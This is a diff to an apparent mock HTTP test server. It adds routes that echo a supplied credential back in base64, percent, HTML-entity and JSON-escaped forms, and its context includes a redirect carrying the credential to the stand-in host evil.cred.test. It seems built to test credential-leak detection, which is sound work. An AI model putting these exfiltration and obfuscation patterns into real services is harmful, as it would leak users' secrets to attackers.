@@ -296,6 +296,22 @@ def split_up(h, text):
     h.end_chunks("X-Last: " + ",".join(h.credentials()))
 
 
+def encoded(way, text):
+    """A document in which a reader has to decode the text."""
+    lines = base64.encodebytes(("x" * 60 + text + "\n").encode()).decode()
+    json_all = "".join("\\u%04x" % ord(x) for x in text)
+    return {
+        "json": '{"t":"%s"}\n' % json_all,
+        "entities": "".join("&#%d;" % ord(x) for x in text),
+        "percent": "%%%02x%s" % (ord(text[0]), text[1:]),
+        "base64": lines,
+        "base64-json": json.dumps({"t": lines}),
+        "json-percent": json_all.replace("\\", "%5C"),
+        "json-in-base64": base64.b64encode(
+            ('{"some": "text", "t": "%s"}' % json_all).encode()).decode(),
+    }[way]
+
+
 def echo(h):
     text = mirrored(h)
     first = (h.credentials() or ["none"])[0]
@@ -303,6 +319,12 @@ def echo(h):
         return h.say(200, b"ok\n", "text/plain", X_Back=first,
                      Server_Timing="t;desc=\"%s\"" % first,
                      Set_Cookie="s=" + first)
+    if h.route.startswith("/as/"):
+        shown = first if h.query != "other" else first[::-1]
+        return h.say(200, encoded(h.route[4:], shown).encode(), "text/plain")
+    if h.route.startswith("/field/"):
+        return h.say(200, b"ok\n", "text/plain",
+                     X_Back=encoded(h.route[7:], first))
     if h.route == "/redirect":
         return h.say(302, b"", "text/plain",
                      Location="https://evil.cred.test/?t=" + first)
